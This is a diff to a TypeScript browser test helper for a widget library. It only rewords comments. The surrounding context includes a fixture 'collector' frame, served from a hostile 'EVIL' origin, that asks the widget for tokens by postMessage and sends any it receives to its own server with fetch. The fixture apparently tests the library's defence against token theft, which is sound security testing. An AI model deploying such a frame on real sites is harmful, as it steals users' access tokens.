@@ -5,13 +5,13 @@ import { test as base, type Stage } from '../stage.ts';
 
 declare global {
   interface Window {
-    /** Codes of what was refused, by the id of the element. */
+    /** The `vitrine:error` events of refused elements. */
     refused: [id: string, code: string, docsUrl: string | undefined][];
     sentences: string[];
   }
 }
 
-/** Listens at the document, as events bubble, from before the library runs. */
+/** Records events at the document, starting before the library runs. */
 export const listening = `<script>
 window.refused = [];
 window.sentences = [];
@@ -21,7 +21,7 @@ document.addEventListener('vitrine:error', ({ target, detail }) => {
 });
 </script>`;
 
-/** A frame of somebody who collects tokens: it asks, and gives away what it gets. */
+/** A hostile frame that requests tokens and sends them to its own server. */
 const collector = `<!doctype html><title>Collector</title><script>
 addEventListener('message', ({ data }) => data.value?.token && fetch('/collected?' + data.value.token));
 for (const type of ['VITRINE_REQUEST_TOKEN', 'RETURNINGAI_WIDGET_REQUEST_TOKEN'])
@@ -44,7 +44,7 @@ interface Arranged {
   backend: string[];
 }
 
-/** Opens a page with the given markup. `SERVER` is the server of the page's frames, `EVIL` another one. */
+/** Opens a page with the given markup. `SERVER` stands for the server of the page's frames, `EVIL` for a hostile one. */
 export async function open(stage: Stage, evil: string, markup: string): Promise<Arranged> {
   const { page, host, frames } = stage;
   const backend: string[] = [];
